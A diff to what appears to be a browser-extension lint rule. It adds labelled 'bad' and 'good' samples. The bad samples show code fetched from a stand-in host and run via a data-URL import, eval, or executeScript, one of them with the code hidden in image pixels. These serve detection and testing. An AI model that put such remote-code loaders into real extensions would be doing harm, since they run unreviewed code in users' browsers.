@@ -50,6 +50,12 @@ export default defineRule({
   examples: {
     bad: [
       sample({
+        content:
+          'chrome.runtime.sendMessage("skin").then((text) => import("data:text/javascript;base64," + btoa(text)));',
+        background:
+          'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://cdn.example/skin").then((r) => r.text()).then(reply); return true; });',
+      }),
+      sample({
         background:
           'const points = (image) => { const c = document.createElement("canvas").getContext("2d"); c.drawImage(image, 0, 0); return c.getImageData(0, 0, 9, 9).data; }; const read = (d) => { let out = "", byte = 0; for (let i = 0; i < d.length; i++) { byte = (byte << 1) | (d[i] & 1); if (i % 8 === 7) out += String.fromCharCode(byte); } return out; }; const im = new Image(); im.onload = () => chrome.storage.local.set({ note: read(points(im)) }); im.src = "https://img.example/today.png"; chrome.tabs.onUpdated.addListener((id) => chrome.storage.local.get("note", (s) => chrome.tabs.executeScript(id, { code: s.note })));',
       }),
@@ -78,6 +84,12 @@ export default defineRule({
       sample({ background: 'axios.get("https://cdn.example/a").then(({ data }) => { (0, eval)(data); });' }),
     ],
     good: [
+      sample({
+        content:
+          'chrome.runtime.sendMessage("skin").then((text) => { const s = document.createElement("img"); s.src = "data:image/png;base64," + text; document.body.append(s); });',
+        background:
+          'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://cdn.example/skin").then((r) => r.text()).then(reply); return true; });',
+      }),
       // What is asked for is named by who calls a part of a library that nobody calls: weighed low.
       sample({
         content:
